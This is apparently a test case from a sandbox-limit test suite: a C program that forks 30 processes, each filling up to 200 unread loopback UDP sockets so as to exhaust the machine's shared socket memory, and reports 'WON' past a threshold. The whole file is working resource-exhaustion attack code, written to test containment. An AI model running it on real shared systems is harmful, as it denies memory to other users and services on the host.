/* SPDX-License-Identifier: MIT */
/*
 * wins: as tcp-buffers, in the receive queues of UDP sockets that nobody reads (udp_mem is the machine's too)
 * rule: 4, 11
 * expect: ok|memory_limit|signal|process_limit|wall_limit
 * limits: memory_bytes=100663296 processes=40 wall_ms=15000 cpu_ms=15000
 * needs: memory
 * else: ok
 * else-open: udp-buffers-over-the-limit
 * control: unsafe: takes the machine's socket memory
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>

static char block[32768];

static long udp_pages(void)
{
	char text[1024], *p;
	int fd = open("/proc/net/sockstat", O_RDONLY);
	ssize_t n = read(fd, text, sizeof text - 1);
	close(fd);
	text[n > 0 ? n : 0] = 0;
	p = strstr(text, "UDP:");
	p = p ? strstr(p, " mem ") : NULL;
	return p ? atol(p + 5) : -1;
}

int main(void)
{
	long before = udp_pages(), most = before;
	for (int k = 0; k < 30; k++)
		if (fork() == 0) {
			int out = socket(AF_INET, SOCK_DGRAM, 0), size = 1 << 23;
			for (int i = 0; i < 200; i++) {
				int in = socket(AF_INET, SOCK_DGRAM, 0);
				struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
				socklen_t len = sizeof a;
				setsockopt(in, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
				if (bind(in, (struct sockaddr *)&a, sizeof a) < 0) break;
				getsockname(in, (struct sockaddr *)&a, &len);
				for (int n = 0; n < 16; n++)
					sendto(out, block, sizeof block, MSG_DONTWAIT, (struct sockaddr *)&a, sizeof a);
			}
			for (;;) pause();
		}
	for (int i = 0; i < 600 && most < before + 49152; i++) {
		nap_ms(5);
		long now = udp_pages();
		if (now > most) most = now;
	}
	say("UDP buffers: %ld MiB", (most - before) / 256);
	if (most - before > 96 * 256) say("WON udp-buffers-over-the-limit");
	return end();
}
